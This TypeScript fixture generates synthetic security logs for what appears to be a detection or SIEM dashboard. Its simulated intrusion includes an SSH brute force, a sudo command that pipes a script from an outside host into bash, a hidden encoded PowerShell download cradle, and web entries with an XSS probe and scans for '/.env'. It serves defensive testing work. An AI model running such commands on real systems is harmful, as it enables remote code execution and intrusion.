import type { EventView } from '@vigie/contracts/api';
import { seeded } from './random.ts';

const random = seeded(20);
const HOSTS = ['bastion-1', 'web-02', 'srv-files', 'dc-01', 'ws-114', 'ws-221', 'erp-db'] as const;
const USERS = ['m.janssens', 'c.dubois', 'svc-backup', 'l.rossi', 'a.peeters', 'administrator'] as const;
const OUTSIDE = ['203.0.113.24', '198.51.100.77', '203.0.113.190', '192.0.2.15'] as const;
const COUNTRY: Record<string, string> = {
  '203.0.113.24': 'BR',
  '198.51.100.77': 'VN',
  '203.0.113.190': 'NL',
  '192.0.2.15': 'FR',
};

type Fields = EventView['fields'];

function iso(at: number): string {
  return new Date(at).toISOString();
}
function clock(at: number): string {
  return (
    new Date(at).toUTCString().slice(8, 11) +
    new Date(at).toISOString().slice(7, 10).replace('-', ' ').slice(0, 3) +
    ' ' +
    new Date(at).toISOString().slice(11, 19)
  );
}

function base(at: number, module: string, dataset: string, original: string, more: Fields): Fields {
  return {
    '@timestamp': iso(at),
    'ecs.version': '8.17.0',
    'event.module': module,
    'event.dataset': dataset,
    'event.kind': 'event',
    'event.ingested': iso(at + 240),
    ...more,
    'event.original': original,
  };
}

function sshFailure(at: number, host: string, user: string, ip: string): Fields {
  const port = 30000 + random.int(30000);
  return base(
    at,
    'linux',
    'linux.auth',
    `<38>${clock(at)} ${host} sshd[${1000 + random.int(30000)}]: Failed password for ${user} from ${ip} port ${port} ssh2`,
    {
      'event.category': ['authentication'],
      'event.type': ['start'],
      'event.action': 'ssh_login',
      'event.outcome': 'failure',
      'host.name': host,
      'user.name': user,
      'source.ip': ip,
      'source.port': port,
      'source.geo.country_iso_code': COUNTRY[ip] ?? 'BE',
      'process.name': 'sshd',
    },
  );
}

function firewall(at: number): Fields {
  const source = `10.20.${random.int(4)}.${1 + random.int(250)}`;
  const destination = random.pick(OUTSIDE);
  const port = random.pick([443, 443, 443, 80, 53, 22, 3389]);
  const action = random.next() < 0.9 ? 'accept' : 'deny';
  return base(
    at,
    'fortinet',
    'fortinet.fortigate',
    `date=${iso(at).slice(0, 10)} time=${iso(at).slice(11, 19)} devname="fw-edge" type="traffic" subtype="forward" level="notice" srcip=${source} srcport=${1024 + random.int(60000)} dstip=${destination} dstport=${port} proto=6 action="${action}" policyid=${random.int(40)} sentbyte=${random.int(90000)} rcvdbyte=${random.int(900000)}`,
    {
      'event.category': ['network'],
      'event.type': action === 'accept' ? ['connection', 'allowed'] : ['connection', 'denied'],
      'event.action': action,
      'event.outcome': action === 'accept' ? 'success' : 'failure',
      'observer.name': 'fw-edge',
      'observer.vendor': 'Fortinet',
      'source.ip': source,
      'destination.ip': destination,
      'destination.port': port,
      'network.transport': 'tcp',
      'source.bytes': random.int(90000),
      'destination.bytes': random.int(900000),
    },
  );
}

function web(at: number): Fields {
  const ip = random.pick(OUTSIDE);
  const path = random.pick(['/', '/login', '/api/orders?page=2', '/wp-login.php', '/.env', '/img/logo.svg']);
  const status = path === '/.env' || path === '/wp-login.php' ? 404 : 200;
  return base(
    at,
    'nginx',
    'nginx.access',
    `${ip} - - [${iso(at)}] "GET ${path} HTTP/1.1" ${status} ${random.int(20000)} "-" "Mozilla/5.0 <script>alert(1)</script>"`,
    {
      'event.category': ['web'],
      'event.type': ['access'],
      'event.outcome': status < 400 ? 'success' : 'failure',
      'host.name': 'web-02',
      'source.ip': ip,
      'source.geo.country_iso_code': COUNTRY[ip] ?? 'BE',
      'url.original': path,
      'http.request.method': 'GET',
      'http.response.status_code': status,
      'user_agent.original': 'Mozilla/5.0 <script>alert(1)</script>',
    },
  );
}

function processStart(at: number, host: string, user: string, commandLine: string): Fields {
  const executable = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
  return base(
    at,
    'windows',
    'windows.sysmon',
    JSON.stringify({
      Event: {
        System: { Provider: 'Microsoft-Windows-Sysmon', EventID: 1, Computer: `${host}.corp.example.com` },
        EventData: {
          Image: executable,
          CommandLine: commandLine,
          User: `CORP\\${user}`,
          ParentImage: 'C:\\Program Files\\Office\\WINWORD.EXE',
        },
      },
    }),
    {
      'event.category': ['process'],
      'event.type': ['start'],
      'event.code': '1',
      'event.provider': 'Microsoft-Windows-Sysmon',
      'host.name': host,
      'user.name': user,
      'user.domain': 'CORP',
      'process.name': 'powershell.exe',
      'process.executable': executable,
      'process.command_line': commandLine,
      'process.parent.executable': 'C:\\Program Files\\Office\\WINWORD.EXE',
      'process.pid': 4000 + random.int(9000),
    },
  );
}

let serial = 0;
function event(tenant: string, source: string, at: number, fields: Fields): EventView {
  serial++;
  return {
    id: serial.toString(16).padStart(8, '0') + random.hex(24),
    tenant,
    source,
    at,
    receivedAt: at + 200 + random.int(900),
    fields,
  };
}

/** Background traffic of the last 24 h and one attack that ended `agoMs` before `now`; newest first. */
export function sampleEvents(now: number, tenants: readonly string[]) {
  const events: EventView[] = [];
  for (let index = 0; index < 9000; index++) {
    // Squared: more of it lately, as a day has it.
    const at = now - random.next() ** 1.6 * 86_400_000;
    const tenant = random.pick(tenants);
    const kind = random.next();
    if (kind < 0.62) events.push(event(tenant, 'fw-edge', at, firewall(at)));
    else if (kind < 0.85) events.push(event(tenant, 'web-front', at, web(at)));
    else if (kind < 0.93)
      events.push(
        event(
          tenant,
          'linux-syslog',
          at,
          sshFailure(at, random.pick(HOSTS), random.pick(USERS), random.pick(OUTSIDE)),
        ),
      );
    else
      events.push(
        event(
          tenant,
          'windows',
          at,
          processStart(
            at,
            random.pick(HOSTS),
            random.pick(USERS),
            'powershell.exe -File C:\\Scripts\\inventory.ps1',
          ),
        ),
      );
  }
  const tenant = tenants[0]!;
  const start = now - 26 * 60_000;
  const failures: EventView[] = [];
  for (let index = 0; index < 64; index++) {
    const at = start + index * 4100;
    failures.push(
      event(
        tenant,
        'linux-syslog',
        at,
        sshFailure(at, 'bastion-1', random.pick(['root', 'm.janssens', 'admin']), '203.0.113.24'),
      ),
    );
  }
  const loginAt = start + 64 * 4100 + 2000;
  const login = event(tenant, 'linux-syslog', loginAt, {
    ...sshFailure(loginAt, 'bastion-1', 'm.janssens', '203.0.113.24'),
    'event.outcome': 'success',
    'event.original': `<38>${clock(loginAt)} bastion-1 sshd[21874]: Accepted password for m.janssens from 203.0.113.24 port 51812 ssh2`,
  });
  const sudoAt = loginAt + 95_000;
  const command = '/usr/bin/bash -c "curl -s http://203.0.113.190/k.sh | bash"';
  const sudo = event(
    tenant,
    'linux-syslog',
    sudoAt,
    base(
      sudoAt,
      'linux',
      'linux.auth',
      `<85>${clock(sudoAt)} bastion-1 sudo: m.janssens : TTY=pts/0 ; PWD=/home/m.janssens ; USER=root ; COMMAND=${command}`,
      {
        'event.category': ['process'],
        'event.type': ['start'],
        'event.action': 'sudo',
        'event.outcome': 'success',
        'host.name': 'bastion-1',
        'user.name': 'm.janssens',
        'user.effective.name': 'root',
        'process.name': 'sudo',
        'process.command_line': command,
        'process.working_directory': '/home/m.janssens',
      },
    ),
  );
  const encodedAt = now - 3 * 3_600_000;
  const encoded = event(
    tenants[1]!,
    'windows',
    encodedAt,
    processStart(
      encodedAt,
      'ws-114',
      'c.dubois',
      'powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
    ),
  );
  events.push(...failures, login, sudo, encoded);
  events.sort((a, b) => b.at - a.at);
  return { events, failures, login, sudo, encoded };
}
